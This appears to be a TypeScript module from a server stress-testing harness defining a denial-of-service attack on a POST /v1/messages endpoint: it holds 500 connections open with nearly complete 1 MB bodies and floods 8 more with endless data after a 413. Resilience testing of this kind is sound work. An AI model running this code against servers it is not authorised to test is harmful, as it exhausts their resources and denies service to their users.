import { sized, type Attack } from '../../attack.ts'
import { flood, headOf, keepOpen } from '../../requests.ts'

const json = { 'content-type': 'application/json' }
const octets = Buffer.alloc(65_536, 'a')

/** Bodies of 1 MB without a key, and bodies without end after a 413. */
export const bodies: Attack = {
  name: 'bodies',
  title: 'no key: 500 bodies of 1 MB; 8 endless bodies after a 413',
  run: async (target, signal, note) => {
    const large = headOf('POST /v1/messages', { ...json, 'content-length': '1000000' })
    const endless = headOf('POST /v1/messages', {
      ...json,
      ...target.own,
      'content-length': '100000000000',
    })
    await Promise.all([
      keepOpen(target, sized(target, 500), signal, note, (socket) => {
        socket.write(`${large}\r\n`)
        // All but the last octet: the request stays incomplete.
        socket.write(Buffer.alloc(999_999, 'a'))
      }),
      keepOpen(target, 8, signal, note, (socket) => {
        socket.write(`${endless}\r\n`)
        flood(socket, () => octets)
      }),
    ])
  },
}
